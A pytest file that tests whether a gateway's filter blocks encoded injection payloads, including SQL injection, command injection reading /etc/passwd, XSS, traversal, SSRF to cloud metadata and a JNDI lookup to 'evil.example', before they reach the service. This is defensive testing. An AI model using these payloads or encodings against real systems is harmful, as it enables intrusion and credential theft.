"""An injection that a schema lets through, written in ways that services decode and gateways often do not."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from urllib.parse import quote

import pytest

from tests.support import configs
from tests.support.gateway import Gateway
from tests.support.origin import Origin

ATTACKS = {
    "sql": "x' UNION SELECT login, password FROM users --",
    "command": "a.txt; cat /etc/passwd",
    "xss": "<svg onload=alert(1)>",
    "traversal": "../../../etc/passwd",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
    "lookup": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}}",
}
WRITTEN: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "entities": lambda text: "".join(c if c.isalnum() else f"&#x{ord(c):x};" for c in text),
    "escapes": lambda text: "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in text),
    "full width": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
}


@pytest.fixture(scope="module")
def shop() -> Iterator[tuple[Gateway, Origin]]:
    service = Origin()
    gate = Gateway(configs.public(service, attack_filter={}))
    yield gate, service
    gate.stop(0)
    service.close()


@pytest.mark.parametrize("written", WRITTEN)
def test_nothing_of_it_reaches_the_service(shop: tuple[Gateway, Origin], written: str) -> None:
    gate, service = shop
    for kind, attack in ATTACKS.items():
        text = WRITTEN[written](attack)
        for reply in (
            gate.get(f"/a?q={quote(text, safe='')}"),
            gate.post("/a", json.dumps({"note": text}).encode(), [("Content-Type", "application/json")]),
        ):
            assert (reply.status, reply.reason) == (403, "attack_suspected"), (kind, text)
            assert f"`{kind}`" in reply.body.decode(), kind
            assert text not in reply.body.decode()
    assert service.saw_nothing()


def test_nearly_attacks_do_not_keep_it_busy(shop: tuple[Gateway, Origin]) -> None:
    """What makes careless expressions slow, as much of it as is looked at: each is answered."""
    gate, _ = shop
    for piece in ("<a ", "' or ", "(select ", "{{", "../", "%25", "&#", "$(cat "):
        body = (piece * (200 * 1024 // len(piece))).encode()
        assert gate.post("/a", body, [("Content-Type", "text/plain")]).status in (200, 403)
